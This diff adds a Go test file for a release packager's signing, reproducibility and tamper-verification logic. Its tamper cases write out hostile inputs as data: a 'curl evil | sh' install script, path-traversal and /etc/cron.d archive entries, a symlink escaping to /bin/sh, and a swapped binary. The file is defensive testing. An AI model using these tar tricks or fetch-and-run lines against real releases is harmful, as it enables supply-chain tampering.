@@ -1,0 +1,516 @@
+package release
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/ecdsa"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/tern-agent/tern/packager/internal/artifact"
+	"github.com/tern-agent/tern/packager/internal/checksum"
+	"github.com/tern-agent/tern/packager/internal/config"
+	"github.com/tern-agent/tern/packager/internal/manifest"
+	"github.com/tern-agent/tern/packager/internal/sign"
+	"github.com/tern-agent/tern/packager/internal/verify"
+)
+
+func runRelease(t *testing.T, repo string, o Options) (string, error) {
+	t.Helper()
+	var log bytes.Buffer
+	o.Root, o.ReuseBuild, o.Log = repo, true, &log
+	if o.Until == 0 {
+		o.Until = Verify
+	}
+	_, err := Run(context.Background(), o)
+	return log.String(), err
+}
+
+func mustRelease(t *testing.T, repo string, o Options) string {
+	t.Helper()
+	log, err := runRelease(t, repo, o)
+	if err != nil {
+		t.Fatalf("release: %v\n%s", err, log)
+	}
+	return ReleaseDir(repo)
+}
+
+func testKey(t *testing.T) (keyPEM string, priv *ecdsa.PrivateKey) {
+	t.Helper()
+	privPEM, _, err := sign.GenerateCosignKey([]byte("secret"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	priv, err = sign.LoadCosignKey(string(privPEM), []byte("secret"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(privPEM), priv
+}
+
+func cfg(t *testing.T) *config.Config {
+	t.Helper()
+	c, err := config.Load(realConfig)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return c
+}
+
+func TestSnapshotReleaseVerifiesWithTheCosignCLI(t *testing.T) {
+	repo := newRepo(t)
+	log := ""
+	dir := func() string {
+		var err error
+		log, err = runRelease(t, repo, Options{Snapshot: true})
+		if err != nil {
+			t.Fatalf("release: %v\n%s", err, log)
+		}
+		return ReleaseDir(repo)
+	}()
+	if !strings.Contains(log, "UNTRUSTED SNAPSHOT SIGNATURE") {
+		t.Errorf("a snapshot signed with a throw-away key must say so loudly:\n%s", log)
+	}
+	pub := filepath.Join(repo, "dist", sign.SnapshotKeyName)
+	if _, err := os.Stat(pub); err != nil {
+		t.Fatalf("the snapshot's public key is not at %s", pub)
+	}
+
+	var names []string
+	entries, _ := os.ReadDir(dir)
+	for _, e := range entries {
+		names = append(names, e.Name())
+	}
+	want := []string{checksum.FileName, sign.BundleName, manifest.FileName}
+	for _, tg := range cfg(t).Targets {
+		ext := ".tar.gz"
+		if tg.GOOS == "windows" {
+			ext = ".zip"
+		}
+		want = append(want, "tern-"+fixtureVersion+"-"+tg.Name+ext)
+	}
+	if len(names) != len(want) {
+		t.Fatalf("release holds %v, want %v", names, want)
+	}
+	for _, w := range want {
+		if _, err := os.Stat(filepath.Join(dir, w)); err != nil {
+			t.Errorf("release lacks %s", w)
+		}
+	}
+
+	if out, err := run(t, dir, nil, "sha256sum", "-c", checksum.FileName); err != nil {
+		t.Fatalf("sha256sum -c: %v\n%s", err, out)
+	}
+	cosign := cosignCLI(t)
+	out, err := run(t, dir, nil, cosign, "verify-blob", "--key", pub, "--bundle", sign.BundleName, "--insecure-ignore-tlog=true", checksum.FileName)
+	if err != nil || !strings.Contains(out, "Verified OK") {
+		t.Fatalf("cosign verify-blob refused the bundle: %v\n%s", err, out)
+	}
+}
+
+func TestCosignKeyInterop(t *testing.T) {
+	cosign := cosignCLI(t)
+	keys := t.TempDir()
+	if out, err := run(t, keys, []string{"COSIGN_PASSWORD=pw"}, cosign, "generate-key-pair"); err != nil {
+		t.Fatalf("cosign generate-key-pair: %v\n%s", err, out)
+	}
+	keyPEM, err := os.ReadFile(filepath.Join(keys, "cosign.key"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	// COSIGN_KEY may be a path or, as in a CI secret, the PEM itself.
+	for _, key := range []string{filepath.Join(keys, "cosign.key"), string(keyPEM)} {
+		repo := newRepo(t)
+		dir := mustRelease(t, repo, Options{Snapshot: true, Sign: sign.Options{Key: key, Password: []byte("pw")}})
+		out, err := run(t, dir, nil, cosign, "verify-blob", "--key", filepath.Join(keys, "cosign.pub"), "--bundle", sign.BundleName, "--insecure-ignore-tlog=true", checksum.FileName)
+		if err != nil || !strings.Contains(out, "Verified OK") {
+			t.Fatalf("cosign verify-blob refused a bundle signed with cosign's own key: %v\n%s", err, out)
+		}
+		if _, err := os.Stat(filepath.Join(repo, "dist", sign.SnapshotKeyName)); err == nil {
+			t.Errorf("signing with a real key must not write a throw-away public key")
+		}
+	}
+}
+
+func TestReproducibleAcrossClones(t *testing.T) {
+	key, _ := testKey(t)
+	var sums [][]byte
+	for i := 0; i < 2; i++ {
+		dir := mustRelease(t, newRepo(t), Options{Snapshot: true, Sign: sign.Options{Key: key, Password: []byte("secret")}})
+		b, err := os.ReadFile(filepath.Join(dir, checksum.FileName))
+		if err != nil {
+			t.Fatal(err)
+		}
+		sums = append(sums, b)
+	}
+	if !bytes.Equal(sums[0], sums[1]) {
+		t.Fatalf("two clones gave different SHA256SUMS:\n%s\n%s", sums[0], sums[1])
+	}
+}
+
+func TestRerunGivesTheSameRelease(t *testing.T) {
+	repo := newRepo(t)
+	first, _ := os.ReadFile(filepath.Join(mustRelease(t, repo, Options{Snapshot: true}), checksum.FileName))
+	second, _ := os.ReadFile(filepath.Join(mustRelease(t, repo, Options{Snapshot: true}), checksum.FileName))
+	if !bytes.Equal(first, second) {
+		t.Fatalf("a re-run changed SHA256SUMS:\n%s\n%s", first, second)
+	}
+}
+
+func TestArchivesAreNormalised(t *testing.T) {
+	dir := mustRelease(t, newRepo(t), Options{Snapshot: true})
+	f, err := os.Open(filepath.Join(dir, "tern-"+fixtureVersion+"-linux-x64.tar.gz"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	gz, err := gzip.NewReader(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if gz.Header.Name != "" || !gz.Header.ModTime.IsZero() {
+		t.Errorf("gzip header carries name %q, time %v", gz.Header.Name, gz.Header.ModTime)
+	}
+	tr := tar.NewReader(gz)
+	var names []string
+	for {
+		hdr, err := tr.Next()
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		names = append(names, hdr.Name)
+		if hdr.Uid != 0 || hdr.Gid != 0 || hdr.ModTime.UTC().Format("2006-01-02T15:04:05Z") != fixtureCommitDate || len(hdr.PAXRecords) != 0 {
+			t.Errorf("%s: uid %d gid %d mtime %v pax %v", hdr.Name, hdr.Uid, hdr.Gid, hdr.ModTime, hdr.PAXRecords)
+		}
+	}
+	prefix := "tern-" + fixtureVersion + "-linux-x64/"
+	want := []string{prefix, prefix + "LICENSE", prefix + "THIRD_PARTY_NOTICES.md", prefix + "bin/", prefix + "bin/tern"}
+	if strings.Join(names, ",") != strings.Join(want, ",") {
+		t.Fatalf("entries %v, want %v in this order", names, want)
+	}
+}
+
+// reseal recomputes what an attacker with the signing key would: archive
+// digests in the manifest, SHA256SUMS and the signature. What verify still
+// catches after a reseal, it catches by looking inside the archives.
+func reseal(t *testing.T, dir string, priv *ecdsa.PrivateKey, editManifest func(*manifest.Manifest)) {
+	t.Helper()
+	m, err := manifest.Read(filepath.Join(dir, manifest.FileName))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, a := range m.Artifacts {
+		sum, size, err := artifact.SHA256File(filepath.Join(dir, a.Name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		m.Artifacts[i].SHA256, m.Artifacts[i].Size = sum, size
+	}
+	if editManifest != nil {
+		editManifest(m)
+	}
+	raw, _ := json.MarshalIndent(m, "", "  ")
+	writeFile(t, filepath.Join(dir, manifest.FileName), string(raw)+"\n")
+	var lines []checksum.Line
+	entries, _ := os.ReadDir(dir)
+	for _, e := range entries {
+		if e.Name() == checksum.FileName || e.Name() == sign.BundleName {
+			continue
+		}
+		sum, _, err := artifact.SHA256File(filepath.Join(dir, e.Name()))
+		if err != nil {
+			t.Fatal(err)
+		}
+		lines = append(lines, checksum.Line{SHA256: sum, Name: e.Name()})
+	}
+	sums := checksum.Format(lines)
+	writeFile(t, filepath.Join(dir, checksum.FileName), string(sums))
+	bundle, err := sign.WithKey(sums, priv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, filepath.Join(dir, sign.BundleName), string(bundle))
+}
+
+type tarMember struct {
+	hdr  tar.Header
+	data []byte
+}
+
+// editTarGz rewrites an archive through edit.
+func editTarGz(t *testing.T, path string, edit func([]tarMember) []tarMember) {
+	t.Helper()
+	f, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	gz, err := gzip.NewReader(bytes.NewReader(f))
+	if err != nil {
+		t.Fatal(err)
+	}
+	tr := tar.NewReader(gz)
+	var members []tarMember
+	for {
+		hdr, err := tr.Next()
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		data, _ := io.ReadAll(tr)
+		members = append(members, tarMember{*hdr, data})
+	}
+	var out bytes.Buffer
+	gw := gzip.NewWriter(&out)
+	tw := tar.NewWriter(gw)
+	for _, m := range edit(members) {
+		hdr := m.hdr
+		hdr.Size = int64(len(m.data))
+		if err := tw.WriteHeader(&hdr); err != nil {
+			t.Fatal(err)
+		}
+		tw.Write(m.data)
+	}
+	tw.Close()
+	gw.Close()
+	writeFile(t, path, out.String())
+}
+
+func copyDir(t *testing.T, from string) string {
+	t.Helper()
+	to := t.TempDir()
+	entries, _ := os.ReadDir(from)
+	for _, e := range entries {
+		copyFile(t, filepath.Join(from, e.Name()), filepath.Join(to, e.Name()))
+	}
+	return to
+}
+
+func TestVerifyRefusesTampering(t *testing.T) {
+	keyPEM, priv := testKey(t)
+	good := mustRelease(t, newRepo(t), Options{Snapshot: true, Sign: sign.Options{Key: keyPEM, Password: []byte("secret")}})
+	opts := verify.Options{Config: cfg(t), PublicKey: &priv.PublicKey}
+	if err := verify.Release(good, opts); err != nil {
+		t.Fatalf("the untouched release is refused: %v", err)
+	}
+	x64 := "tern-" + fixtureVersion + "-linux-x64.tar.gz"
+	prefix := "tern-" + fixtureVersion + "-linux-x64/"
+	arm64Bin, err := os.ReadFile(filepath.Join(fixtureBins, "linux_arm64", "tern"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	setMember := func(name string, data []byte) func([]tarMember) []tarMember {
+		return func(ms []tarMember) []tarMember {
+			for i := range ms {
+				if ms[i].hdr.Name == prefix+name {
+					ms[i].data = data
+				}
+			}
+			return ms
+		}
+	}
+	addMember := func(hdr tar.Header, data []byte) func([]tarMember) []tarMember {
+		return func(ms []tarMember) []tarMember { return append(ms, tarMember{hdr, data}) }
+	}
+
+	for _, tc := range []struct {
+		name   string
+		tamper func(t *testing.T, dir string)
+		want   []string
+	}{
+		{"a byte of an archive", func(t *testing.T, dir string) {
+			p := filepath.Join(dir, x64)
+			b, _ := os.ReadFile(p)
+			b[len(b)/2] ^= 0xff
+			writeFile(t, p, string(b))
+		}, []string{x64 + ": sha256 is"}},
+		{"a checksum line", func(t *testing.T, dir string) {
+			p := filepath.Join(dir, checksum.FileName)
+			b, _ := os.ReadFile(p)
+			if b[0] == 'f' { // any other hex digit
+				b[0] = '0'
+			} else {
+				b[0] = 'f'
+			}
+			writeFile(t, p, string(b))
+		}, []string{sign.BundleName + ": does not verify", "SHA256SUMS says"}},
+		{"the signature", func(t *testing.T, dir string) {
+			p := filepath.Join(dir, sign.BundleName)
+			var bundle map[string]any
+			raw, _ := os.ReadFile(p)
+			json.Unmarshal(raw, &bundle)
+			ms := bundle["messageSignature"].(map[string]any)
+			sig := []byte(ms["signature"].(string))
+			if sig[10] == 'A' { // any other base64 digit
+				sig[10] = 'B'
+			} else {
+				sig[10] = 'A'
+			}
+			ms["signature"] = string(sig)
+			raw, _ = json.Marshal(bundle)
+			writeFile(t, p, string(raw))
+		}, []string{sign.BundleName + ": does not verify"}},
+		{"a missing signature", func(t *testing.T, dir string) {
+			os.Remove(filepath.Join(dir, sign.BundleName))
+		}, []string{sign.BundleName + ": missing: the release is unsigned"}},
+		{"an archive member", func(t *testing.T, dir string) {
+			editTarGz(t, filepath.Join(dir, x64), setMember("bin/tern", []byte("#!/bin/sh\necho pwned\n")))
+			reseal(t, dir, priv, nil)
+		}, []string{x64 + ": binary sha256 is", "is not an ELF executable"}},
+		{"an extra archive member", func(t *testing.T, dir string) {
+			editTarGz(t, filepath.Join(dir, x64), addMember(tar.Header{Name: prefix + "bin/evil", Mode: 0o755, Typeflag: tar.TypeReg, Format: tar.FormatUSTAR}, []byte("x")))
+			reseal(t, dir, priv, nil)
+		}, []string{x64 + ": unexpected file " + prefix + "bin/evil"}},
+		{"an architecture", func(t *testing.T, dir string) {
+			editTarGz(t, filepath.Join(dir, x64), setMember("bin/tern", arm64Bin))
+			reseal(t, dir, priv, func(m *manifest.Manifest) {
+				for i := range m.Artifacts {
+					if m.Artifacts[i].Name == x64 {
+						m.Artifacts[i].Binary.SHA256 = sha256Hex(arm64Bin)
+					}
+				}
+			})
+		}, []string{x64 + ": binary is built for EM_AARCH64, not linux-x64"}},
+		{"a path with ..", func(t *testing.T, dir string) {
+			editTarGz(t, filepath.Join(dir, x64), addMember(tar.Header{Name: prefix + "../../evil", Mode: 0o644, Typeflag: tar.TypeReg}, []byte("x")))
+			reseal(t, dir, priv, nil)
+		}, []string{"contains .."}},
+		{"an absolute path", func(t *testing.T, dir string) {
+			editTarGz(t, filepath.Join(dir, x64), addMember(tar.Header{Name: "/etc/cron.d/evil", Mode: 0o644, Typeflag: tar.TypeReg}, []byte("x")))
+			reseal(t, dir, priv, nil)
+		}, []string{"has an absolute path"}},
+		{"a link leading out", func(t *testing.T, dir string) {
+			editTarGz(t, filepath.Join(dir, x64), addMember(tar.Header{Name: prefix + "bin/sh", Linkname: "../../../bin/sh", Mode: 0o777, Typeflag: tar.TypeSymlink}, nil))
+			reseal(t, dir, priv, nil)
+		}, []string{"is a link leading out of the tree"}},
+		{"a file no checksum covers", func(t *testing.T, dir string) {
+			writeFile(t, filepath.Join(dir, "install.sh"), "curl evil | sh\n")
+		}, []string{"install.sh: is in the release but not in SHA256SUMS"}},
+		{"a manifest that disagrees", func(t *testing.T, dir string) {
+			reseal(t, dir, priv, func(m *manifest.Manifest) { m.Artifacts[0].SHA256 = strings.Repeat("0", 64) })
+		}, []string{"manifest.json says sha256 " + strings.Repeat("0", 64)}},
+		{"a stamped version", func(t *testing.T, dir string) {
+			other := filepath.Join(t.TempDir(), "tern")
+			src := filepath.Join(fixtureBins, "src")
+			if err := buildFixture(src, other, config.Target{Name: "linux-x64", GOOS: "linux", GOARCH: "amd64"}, "9.9.9", "abc"); err != nil {
+				t.Fatal(err)
+			}
+			bin, _ := os.ReadFile(other)
+			editTarGz(t, filepath.Join(dir, x64), setMember("bin/tern", bin))
+			reseal(t, dir, priv, func(m *manifest.Manifest) {
+				for i := range m.Artifacts {
+					if m.Artifacts[i].Name == x64 {
+						m.Artifacts[i].Binary.SHA256 = sha256Hex(bin)
+					}
+				}
+			})
+		}, []string{x64 + `: binary is stamped with version "9.9.9", the release is ` + fixtureVersion}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := copyDir(t, good)
+			tc.tamper(t, dir)
+			err := verify.Release(dir, opts)
+			if err == nil {
+				t.Fatal("verify accepted a tampered release")
+			}
+			for _, w := range tc.want {
+				if !strings.Contains(err.Error(), w) {
+					t.Errorf("the refusal does not say %q:\n%v", w, err)
+				}
+			}
+		})
+	}
+
+	t.Run("another key", func(t *testing.T) {
+		_, other := testKey(t)
+		err := verify.Release(good, verify.Options{Config: cfg(t), PublicKey: &other.PublicKey})
+		if err == nil || !strings.Contains(err.Error(), sign.BundleName+": does not verify") {
+			t.Fatalf("verify with another key: %v", err)
+		}
+	})
+}
+
+func TestBadInputsFailClearlyAndKeepThePreviousRelease(t *testing.T) {
+	repo := newRepo(t)
+	dir := mustRelease(t, repo, Options{Snapshot: true})
+	before, _ := os.ReadFile(filepath.Join(dir, checksum.FileName))
+
+	for _, tc := range []struct {
+		name  string
+		setup func(t *testing.T)
+		opts  Options
+		want  string
+	}{
+		{"wrong key password", nil,
+			Options{Snapshot: true, Sign: sign.Options{Key: mustKeyPEM(t), Password: []byte("wrong")}},
+			"is COSIGN_PASSWORD right?"},
+		{"a key that is no cosign key", nil,
+			Options{Snapshot: true, Sign: sign.Options{Key: "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n"}},
+			"not a cosign private key"},
+		{"key and keyless at once", nil,
+			Options{Snapshot: true, Sign: sign.Options{Key: mustKeyPEM(t), Keyless: true}},
+			"choose one"},
+		{"keyless outside GitHub Actions", nil,
+			Options{Snapshot: true, Sign: sign.Options{Keyless: true, IDToken: sign.GitHubActionsToken}},
+			"permissions: id-token: write"},
+		{"an untagged release", nil, Options{}, "has no v* tag"},
+		{"a missing binary", func(t *testing.T) {
+			p := filepath.Join(repo, "dist", "build", "artifacts.json")
+			raw, _ := os.ReadFile(p)
+			var entries []map[string]any
+			json.Unmarshal(raw, &entries)
+			var kept []map[string]any
+			for _, e := range entries {
+				if e["goos"] != "windows" || e["goarch"] != "arm64" {
+					kept = append(kept, e)
+				}
+			}
+			b, _ := json.Marshal(kept)
+			writeFile(t, p, string(b))
+		}, Options{Snapshot: true}, "has no binary for windows-arm64"},
+		{"no build at all", func(t *testing.T) {
+			os.RemoveAll(filepath.Join(repo, "dist", "build"))
+		}, Options{Snapshot: true}, "artifacts.json is missing"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			if tc.setup != nil {
+				tc.setup(t)
+			}
+			t.Setenv("ACTIONS_ID_TOKEN_REQUEST_URL", "")
+			log, err := runRelease(t, repo, tc.opts)
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("err = %v, want it to say %q\n%s", err, tc.want, log)
+			}
+			after, _ := os.ReadFile(filepath.Join(dir, checksum.FileName))
+			if !bytes.Equal(before, after) {
+				t.Fatalf("a failed run changed the previous release")
+			}
+			leftovers, _ := filepath.Glob(filepath.Join(repo, "dist", ".release-*"))
+			if len(leftovers) > 0 {
+				t.Fatalf("a failed run left %v behind", leftovers)
+			}
+		})
+	}
+}
+
+func mustKeyPEM(t *testing.T) string {
+	k, _ := testKey(t)
+	return k
+}
+
+func sha256Hex(b []byte) string {
+	sum := sha256.Sum256(b)
+	return hex.EncodeToString(sum[:])
+}
